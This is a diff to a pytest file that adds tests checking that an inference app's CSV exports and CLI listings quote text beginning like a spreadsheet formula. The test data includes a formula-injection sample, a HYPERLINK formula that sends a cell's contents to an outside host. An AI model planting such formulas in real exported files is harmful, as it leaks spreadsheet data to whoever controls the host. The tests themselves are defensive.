@@ -2,8 +2,10 @@ import csv
 import json
 
 import numpy as np
+import pytest
 
-from infer_app.export.tables import IMAGE, OBJECT, OUTPUT, write_csv, write_jsonl
+from infer_app.cli.look.results import print_csv
+from infer_app.export.tables import IMAGE, OBJECT, OUTPUT, csv_line, write_csv, write_jsonl
 from tests.support.exports import (
     CAT,
     DOG,
@@ -18,6 +20,7 @@ from tests.support.exports import (
 )
 
 IMAGE_1 = ["1", "/srv/photos/1.jpg", "2026-11-20", "animals", "0123456789abcdef", "cpu-openvino-fp32", "640", "480"]
+FORMULA = '=HYPERLINK("http://host/?"&A1)'
 
 
 def csv_of(path, *images, **options):
@@ -89,3 +92,32 @@ def test_a_regression_keeps_its_numbers(tmp_path):
     images = with_output("1", score=2.5), with_output("2", details={"values": [1.0, 2.0]})
     one, several = jsonl_of(tmp_path / "a.jsonl", *images, kind="regression")
     assert (one["score"], one["label"], several["output"]) == (2.5, None, {"values": [1.0, 2.0]})
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3|x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-"])
+def test_a_text_that_begins_like_a_formula_is_quoted(text):
+    assert list(csv.reader([csv_line(["a", text])])) == [["a", f"'{text}"]]
+
+
+@pytest.mark.parametrize("value", [-0.5, -7, "-7", "+1.5e3", "-inf", "a=b", "'", "/-x.jpg", '{"a": -1}', "", None])
+def test_numbers_and_other_texts_stay(value):
+    assert list(csv.reader([csv_line([value, 1])])) == [["" if value is None else str(value), "1"]]
+
+
+@pytest.mark.parametrize(
+    ("kind", "image"),
+    [
+        ("detection", detected("-x", CAT._replace(label=FORMULA), location="@a.jpg")),
+        ("classification", classified("-x", **{FORMULA: 0.5})),
+    ],
+)
+def test_exports_hold_no_formula(tmp_path, kind, image):
+    write_csv(tmp_path / "a.csv", export_of(image, kind=kind))
+    [row] = csv.DictReader((tmp_path / "a.csv").read_text().splitlines())
+    assert (row["image_id"], row["label"]) == ("'-x", f"'{FORMULA}")
+
+
+def test_lists_hold_no_formula(capsys):
+    print_csv([{"image_id": "-x", "label": FORMULA, "score": -0.5, "other": 1}], ["image_id", "label", "score"])
+    [row] = csv.DictReader(capsys.readouterr().out.splitlines())
+    assert row == {"image_id": "'-x", "label": f"'{FORMULA}", "score": "-0.5"}
